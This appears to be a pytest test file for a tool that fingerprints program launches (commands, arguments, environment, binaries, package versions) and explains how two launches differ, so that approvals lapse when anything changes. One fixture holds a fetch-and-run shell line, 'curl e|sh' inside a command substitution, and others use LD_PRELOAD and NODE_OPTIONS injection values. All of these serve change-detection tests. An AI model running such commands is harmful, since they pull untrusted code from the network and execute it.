"""Identities: stable over rotated credentials, different for everything that could run otherwise."""

import hashlib
import json
from dataclasses import asdict, fields, replace
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from spawngate.launch.definition import Definition
from spawngate.launch.identity import (
    Difference,
    File,
    Identity,
    Resolved,
    bound,
    compare,
    explain,
    identity_of,
    plain_marks,
)
from spawngate.launch.understand import understand

NODE = File("/usr/bin/node", "a" * 64)
ONE = Identity(
    command="npx",
    args=("-y", "@x/y"),
    environment={"NODE_OPTIONS": "--require /a.js"},
    package="pkg:npm/%40x/y",
    programs=(File("/usr/bin/npx", "b" * 64), NODE),
    scripts=(File("/p/s.js", "c" * 64),),
    release="1.2.3",
    release_digest="sha512-x",
    settings={"registry": "https://r.example/"},
    session={"UV_INDEX_URL": "https://i.example/"},
    shadows=(),
    cwd="/p",
)
OTHERS: list[tuple[dict[str, Any], str]] = [
    ({"command": "node"}, "the command was npx and is node"),
    ({"args": ("-y", "@x/z")}, "argument 2 was @x/y and is @x/z"),
    ({"args": ("-y", "@x/y", "--all")}, "argument 3 is new: --all"),
    ({"args": ("-y",)}, "argument 2 is gone: @x/y"),
    ({"code": "d" * 32}, "the text that a shell or interpreter runs is another one"),
    ({"environment": {}}, "the variable NODE_OPTIONS is gone"),
    ({"environment": {"NODE_OPTIONS": "--require /b.js"}}, "the variable NODE_OPTIONS has another value"),
    ({"environment": {**ONE.environment, "LD_PRELOAD": "x"}}, "the variable LD_PRELOAD is new"),
    ({"session": {}}, "the session's variable UV_INDEX_URL is gone"),
    ({"package": "pkg:npm/z"}, "the package was pkg:npm/%40x/y and is pkg:npm/z"),
    (
        {"programs": (File("/home/u/npx", "b" * 64), NODE)},
        "the program was /usr/bin/npx -> /usr/bin/node and is /home/u/npx -> /usr/bin/node",
    ),
    (
        {"programs": (File("/usr/bin/npx", "b" * 64, named="/home/u/bin/npx"), NODE)},
        "the program was /usr/bin/npx -> /usr/bin/node and is /home/u/bin/npx -> /usr/bin/node",
    ),
    ({"programs": (File("/usr/bin/npx", "e" * 64), NODE)}, "the content of the program /usr/bin/npx changed"),
    ({"programs": (File("/usr/bin/npx"), NODE)}, "the content of the program /usr/bin/npx cannot be read now"),
    ({"programs": None}, "the program cannot be found out now"),
    ({"scripts": (File("/p/s.js", "f" * 64),)}, "the content of the script /p/s.js changed"),
    ({"scripts": ()}, "the script was /p/s.js and is none"),
    ({"release": "1.2.4"}, "the package's version was 1.2.3 and is 1.2.4"),
    ({"release": ""}, "the package's version was 1.2.3, and which one runs cannot be told now"),
    ({"release_digest": "sha512-z"}, "the content of version 1.2.3 of the package is another one"),
    ({"release_digest": ""}, "the package's content can no longer be checked"),
    ({"settings": {"registry": "https://e.example/"}}, "the package manager's setting registry has another value"),
    ({"shadows": ("node_modules/.bin/y",)}, "node_modules/.bin/y of the working folder would run now"),
    ({"open": True}, ""),
    ({"cwd": "/q"}, "the working folder was /p and is /q"),
    ({"cwd": None}, "the working folder was /p and is any"),
]


@pytest.mark.parametrize(("change", "words"), OTHERS, ids=[words for _, words in OTHERS])
def test_every_part_counts_and_says_so(change: dict[str, Any], words: str) -> None:
    other = replace(ONE, **change)
    assert other.fingerprint != ONE.fingerprint
    assert explain(ONE, other) == ((words,) if words else ())
    assert compare(ONE, other) == Difference(changed=(words,) if words else ())


def test_every_part_is_in_the_list_above() -> None:
    told = {name for change, _ in OTHERS for name in change}
    assert told == {field.name for field in fields(Identity)} - {"unknown"}


@pytest.mark.parametrize("change", [{}, *(change for change, _ in OTHERS)], ids=str)
def test_the_form_of_the_fingerprint(change: dict[str, Any]) -> None:
    """Every approval that was ever given depends on it."""
    one = replace(ONE, **change)
    parts = asdict(one)
    del parts["unknown"]
    for file in (*(parts["programs"] or ()), *(parts["scripts"] or ())):
        del file["system"]
    text = json.dumps({"identity": 1, **parts}, sort_keys=True)
    assert one.fingerprint == hashlib.sha256(text.encode()).hexdigest()[:32]


def test_what_is_not_known_is_no_part_of_the_fingerprint() -> None:
    other = replace(ONE, unknown=("which version runs",))
    assert (other.fingerprint, explain(ONE, other)) == (ONE.fingerprint, ())
    assert len(ONE.fingerprint) == 32
    # A change of the form is meant to be seen: it makes every approval void.
    assert Identity("a").fingerprint == "c0b7a5b7c266d1cdf65146b0d716606b"


def test_what_becomes_known_is_no_change() -> None:
    before = replace(
        ONE, programs=None, scripts=None, release="", release_digest="", cwd=None, session=None, settings=None
    )
    filled = (
        "the variables of the session",
        "the program",
        "the script",
        "the package's version 1.2.3",
        "the package manager's settings",
    )
    assert compare(before, ONE) == Difference(filled=filled)
    assert bound(before, ONE) == ONE.anywhere()
    shadowed = replace(ONE, shadows=("a.py",))
    assert compare(replace(ONE, shadows=None), shadowed).filled == ("what the working folder runs in its place",)
    assert compare(replace(ONE, release_digest=""), ONE) == Difference(filled=("the package's content",))
    assert compare(replace(ONE, programs=(File("/usr/bin/npx"), NODE)), ONE) == Difference(
        filled=("the content of /usr/bin/npx",)
    )
    assert explain(replace(ONE, cwd=None), ONE) == ("the working folder was any and is /p",)
    assert compare(ONE.anywhere(), ONE) == Difference()


def test_a_link_that_leads_elsewhere() -> None:
    before = Identity("npx", programs=(File("/opt/1/npx", "a" * 64, named="/usr/bin/npx"),))
    after = Identity("npx", programs=(File("/opt/2/npx", "a" * 64, named="/usr/bin/npx"),))
    assert explain(before, after) == ("the program /usr/bin/npx leads to other files: /opt/2/npx",)


def test_an_update_by_the_system_is_told_apart() -> None:
    before = replace(ONE, programs=(File("/usr/bin/npx", "b" * 64, True), NODE))
    after = replace(ONE, programs=(File("/usr/bin/npx", "e" * 64, True), NODE))
    assert compare(before, after) == Difference(updated=("the system updated /usr/bin/npx",))
    assert before.fingerprint != after.fingerprint
    assert before.fingerprint == ONE.fingerprint
    gone = replace(ONE, programs=(File("/usr/bin/npx", "", True), NODE))
    assert compare(before, gone).changed == ("the content of the program /usr/bin/npx cannot be read now",)


def identified(command: str, *args: str, key: bytes = b"k", **more: Any) -> Identity:
    """The identity of words that hold nothing to redact."""
    facts = understand(Definition(command, args))
    return identity_of(
        command, args, facts, more.pop("resolved", Resolved()), environment={}, cwd=None, key=key, **more
    )


def test_text_that_runs_counts_whole_and_keyed() -> None:
    shown = identity_of(
        "sh",
        ("-c", "[secret]"),
        understand(Definition("sh", ("-c", "TOKEN=abc npx y"))),
        Resolved(),
        environment={},
        cwd=None,
        key=b"k",
    )
    other = identity_of(
        "sh",
        ("-c", "[secret]"),
        understand(Definition("sh", ("-c", "TOKEN=$(curl e|sh) npx y"))),
        Resolved(),
        environment={},
        cwd=None,
        key=b"k",
    )
    assert compare(shown, other).changed == ("the text that a shell or interpreter runs is another one",)
    assert identified("sh", "-c", "ls; id").code != identified("sh", "-c", "ls; id", key=b"l").code
    assert identified("npx", "-y", "y").code == ""


def test_two_people_with_equal_launches() -> None:
    ann = identified("/home/ann/bin/s", "--dir=/home/ann/x", "/home/anna", home="/home/ann")
    ben = identified("/home/ben/bin/s", "--dir=/home/ben/x", "/home/anna", home="/home/ben/")
    assert (ann.command, ann.args) == ("~/bin/s", ("--dir=~/x", "/home/anna"))
    assert ann == ben


@pytest.mark.parametrize(
    ("written", "word", "same"),
    [
        ("${workspaceFolder}/x", "/home/u/p/x", True),
        ("${workspaceFolder}/x", "/home/u/p/y", False),
        ("--dir=$HOME", "--dir=/home/u", True),
        ("~/bin", "/home/u/bin", True),
        ("a~b", "axb", False),
        ("{{cwd}}", "/p", True),
        ("%APPDATA%/x", "C:/x", True),
        ("100%", "100%", True),
        ("100%", "1000", False),
        ("plain", "plain", True),
        ("a.c", "abc", False),
    ],
)
def test_variables_of_a_file_stand_for_what_agents_put_there(written: str, word: str, same: bool) -> None:
    approved = Identity("s", (written,), open=True)
    now = Identity("s", (word,))
    assert (compare(approved, now) == Difference()) is same
    assert bound(approved, replace(now, release="1")) == Identity("s", (written,), release="1", open=True)
    closed = compare(replace(approved, open=False), now)
    assert (closed == Difference()) is (written == word)
    assert closed.changed == (() if written == word else (f"argument 1 was {written} and is {word}",))


def test_marks() -> None:
    text = "a[secret:flag-value:00aa]b[secret:env-value:11bb]"
    assert plain_marks(text, ["[secret:flag-value:00aa]"]) == "a[secret]b[secret:env-value:11bb]"


@given(st.text(), st.lists(st.text(), max_size=3), st.text())
def test_total_and_reflexive(command: str, args: list[str], home: str) -> None:
    one = identified(command, *args, home=home)
    assert explain(one, one) == ()
    assert one.fingerprint == identified(command, *args, home=home).fingerprint
